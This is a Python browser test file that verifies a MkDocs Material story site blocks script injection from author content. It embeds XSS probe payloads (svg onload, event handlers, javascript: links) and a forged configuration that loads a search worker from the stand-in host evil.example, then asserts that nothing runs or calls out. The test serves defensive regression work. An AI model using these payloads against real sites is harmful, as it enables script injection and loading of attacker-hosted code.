"""Script injection from content, tried in real Chromium: nothing an author writes runs or phones home.

Before issue 13, an element with `id="__config"` in a story body replaced Material's
configuration: with `content.tooltips` a link title ran script on hover, and with `base` and
`version` pointed elsewhere the page fetched another host's `versions.json` on load. Here the
same payloads are built into a site and the story page is hovered, focused and clicked through
while every dialog and every request is recorded.
"""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.browser

CONFIG = ('{"base": "https://evil.example/", "features": ["content.tooltips", "navigation.instant"], '
          '"search": "https://evil.example/worker.js", "translations": {}, '
          '"version": {"provider": "mike", "default": "latest"}}')  # fmt: skip
PAYLOADS = {
    "raw config": f'<div id="__config">{CONFIG}</div>\n',
    "attr_list config": "A paragraph.\n{: #__config }\n",
    "tooltip title": '[Read more](https://example.org "<svg onload=alert(document.domain)>")\n',
    "handler": '<p onmouseover="alert(1)">Hover here</p>\n<a href="javascript:alert(2)">click</a>\n',
    # (an <img> never gets this far: `check` refuses every picture in the text, tests/test_attacks.py)
    "svg": '<svg><script>alert(3)</script></svg>\n<math><mtext><video src=x onerror=alert(4)></video></mtext></math>\n',
}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    import shutil

    from tests.conftest import PROJECT, SiteDir

    root = tmp_path_factory.mktemp("hostile")
    shutil.copy(PROJECT / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(PROJECT / "site_src", root / "site_src")
    site = SiteDir(root)
    site.story("payloads", body="\n\n".join(PAYLOADS.values()) + "\nThe end.\n")
    site.story("neighbour", tags=["food"])
    return site.build()


def test_nothing_an_author_writes_runs_or_fetches(hostile_site, serve_dir, page_at, off_site_requests):
    base = serve_dir(hostile_site)
    dialogs: list[str] = []
    for width in (390, 1280):
        page = page_at(f"{base}/stories/2021/payloads/", width=width, wait_until="networkidle")
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        config = page.evaluate("() => document.querySelector('#__config')?.textContent || ''")
        assert "evil.example" not in config and "content.tooltips" not in config
        for link in page.locator("article a").all():
            link.hover()
            link.focus()
        page.locator("text=Hover here").hover()
        page.wait_for_timeout(300)
        assert dialogs == [], dialogs
        assert off_site_requests(page) == [], off_site_requests(page)
        assert not [e for e in page.console_errors if "Content Security Policy" not in e], page.console_errors


def test_an_inline_script_that_slips_through_is_refused_by_the_policy(hostile_site, serve_dir, page_at):
    """The CSP is the second wall: a script injected into the page at run time does not run."""
    page = page_at(f"{serve_dir(hostile_site)}/stories/2021/payloads/")
    ran = page.evaluate("""() => new Promise((done) => {
        window.__ran = false;
        document.addEventListener('securitypolicyviolation', () => done(window.__ran), {once: true});
        const s = document.createElement('script');
        s.textContent = 'window.__ran = true';
        document.body.append(s);
        const img = new Image(); img.src = 'https://tracker.example/p.png';
        setTimeout(() => done(window.__ran), 1000);
    })""")
    assert ran is False


@pytest.fixture(scope="module")
def built_site(tmp_path_factory):
    """The sample site, built here: a fresh clone has no site/ of its own."""
    from tests.browser.test_reader import sample_site

    return sample_site(tmp_path_factory.mktemp("sample")).build()


@pytest.mark.parametrize("path", ["", "stories/", "stories/2021/leeds-standing-together/", "ambassadors/amer/",
                                  "campaigns/2021-it-takes-a-community/", "search/?q=food", "subscribe/",
                                  "about/", "stories/2021/community-means-ar/"])  # fmt: skip
def test_every_page_works_under_its_policy(site_server, page_at, path):
    page = page_at(f"{site_server}/{path}", wait_until="networkidle")
    page.keyboard.press("Tab")
    policy = page.evaluate(
        "() => document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]')?.content || ''"
    )
    assert "script-src 'self'" in policy and "object-src 'none'" in policy and "base-uri 'self'" in policy
    assert page.console_errors == [], page.console_errors
